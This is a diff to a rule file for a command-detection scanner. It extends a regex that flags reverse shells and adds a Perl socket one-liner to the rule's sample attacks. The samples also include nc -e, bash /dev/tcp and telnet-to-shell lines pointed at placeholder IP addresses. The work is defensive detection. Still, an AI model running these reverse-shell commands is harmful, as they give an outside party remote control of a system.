@@ -61,7 +61,7 @@ export const languageProgramRules: readonly Rule[] = [
   // A shell that answers to who opened it: no health check and no step of a pipeline has one.
   pattern(
     'rce/shell-back',
-    /\bn(?:c|cat|etcat)\s(?:[^\n]{0,60}\s)?-{1,2}(?:[a-z]{0,3}e|exec)\s{1,4}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh\b|\b(?:ba|z)?sh\s{1,4}-i\s{0,4}[>&\d]{1,4}\s{0,2}&?\s{0,2}\/dev\/(?:tcp|udp)\/|\|\s{0,2}telnet\s[^|;&\n]{1,80}\|\s{0,2}(?:while\b|(?:\/bin\/)?(?:ba|da|z|k)?sh\b)/,
+    /\bn(?:c|cat|etcat)\s(?:[^\n]{0,60}\s)?-{1,2}(?:[a-z]{0,3}e|exec)\s{1,4}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh\b|\b(?:ba|z)?sh\s{1,4}-i\s{0,4}[>&\d]{1,4}\s{0,2}&?\s{0,2}\/dev\/(?:tcp|udp)\/|\|\s{0,2}telnet\s[^|;&\n]{1,80}\|\s{0,2}(?:while\b|(?:\/bin\/)?(?:ba|da|z|k)?sh\b)|\bperl\s{1,4}-mio\s{1,4}-e\b/,
     {
       score: 5,
       quotable: true,
@@ -69,6 +69,7 @@ export const languageProgramRules: readonly Rule[] = [
       attacks: [
         'nc -e /bin/sh 198.51.100.7 4444',
         'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+        `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:443")'`,
         'sleep 9|telnet 198.51.100.7 4444|while : ; do sh && break; done',
       ],
       benign: ['exec 3<>/dev/tcp/localhost/9092', 'nc -z db 5432', 'bash -i'],
